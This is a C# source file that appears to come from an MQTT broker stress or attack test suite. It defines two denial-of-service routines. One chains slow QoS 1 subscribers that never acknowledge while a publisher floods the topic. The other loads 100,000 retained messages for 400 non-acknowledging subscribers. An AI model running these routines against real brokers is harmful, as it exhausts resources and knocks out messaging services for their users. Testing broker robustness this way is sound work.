// SPDX-License-Identifier: MIT

using System.Net.Sockets;

namespace RawMqtt.Attacks;

/// <summary>W5 and W6: subscribers that do not acknowledge.</summary>
internal static class Readers
{
    /// <summary>A new subscriber every second at QoS 1 that acknowledges one message and no more, and a publisher that fills its queue.</summary>
    public static void Chained(Target target)
    {
        int number = 0;
        var pace = new AutoResetEvent(false);
        target.Start(() =>
        {
            Socket socket = target.Connect($"slow{number++}");
            socket.Send(Wire.Subscribe("slow", 1));
            Wire.ReadPacket(socket);
            Wire.ReadPacket(socket);
            socket.Send([0x40, 2, 0, 1]);
            pace.WaitOne(1000);
        });
        Socket publisher = target.Connect("slow-publisher");
        target.Flood(publisher, [.. Enumerable.Range(0, 500).SelectMany(i => Wire.Publish("slow", "x", 1, (ushort)(i + 1), false))]);
    }

    /// <summary>100 000 retained messages, and 400 subscribers to all at QoS 1 that acknowledge none.</summary>
    public static void Replays(Target target)
    {
        Searches.Fill(target, 100_000);
        for (int i = 0; i < 400; i++) target.Connect($"replay{i}").Send(Wire.Subscribe("kept/#", 1));
    }
}
